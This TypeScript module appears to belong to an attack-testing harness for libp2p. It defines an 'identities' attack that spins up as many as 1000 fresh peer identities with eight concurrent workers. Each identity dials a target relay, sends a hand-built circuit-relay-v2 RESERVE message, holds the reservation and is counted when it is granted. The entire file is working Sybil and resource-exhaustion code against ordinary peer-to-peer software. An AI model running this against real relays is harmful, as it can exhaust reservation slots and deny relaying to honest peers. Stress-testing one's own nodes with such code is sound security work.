/** A thousand identities that each ask for a reservation of circuit-relay-v2, and stay. */
import { RELAY_V2_HOP_CODEC } from '@libp2p/circuit-relay-v2';
import { multiaddr as parse } from '@multiformats/multiaddr';
import type { Attack } from './attacker.ts';
import { node } from './cells.ts';

export const IDENTITIES = 1000;
/** HopMessage{ type: RESERVE }, with its length before it (circuit-relay-v2 §protobuf). */
const RESERVE = Uint8Array.of(2, 8, 0);

export const identities: Attack = async (multiaddr, tell) => {
  let [count, granted] = [0, 0];
  const one = async (): Promise<void> => {
    const peer = await node();
    const connection = await peer.dial(parse(multiaddr));
    const stream = await connection.newStream(RELAY_V2_HOP_CODEC);
    const answer = new Promise<Uint8Array>((resolve) =>
      stream.addEventListener('message', ({ data }) => resolve(data.subarray()), { once: true }),
    );
    stream.send(RESERVE);
    const bytes = await Promise.race([answer, new Promise<Uint8Array>((resolve) => setTimeout(() => resolve(new Uint8Array(0)), 20_000))]);
    // A reservation comes with its voucher; a refusal is a few bytes.
    if (bytes.length > 100) granted += 1;
  };
  const run = async (): Promise<void> => {
    while (count < IDENTITIES) {
      count += 1;
      await one().catch(() => undefined);
      if (count % 10 === 0) tell({ count, granted });
    }
  };
  await Promise.race([Promise.all(Array.from({ length: 8 }, run)), new Promise((resolve) => setTimeout(resolve, 500))]);
};
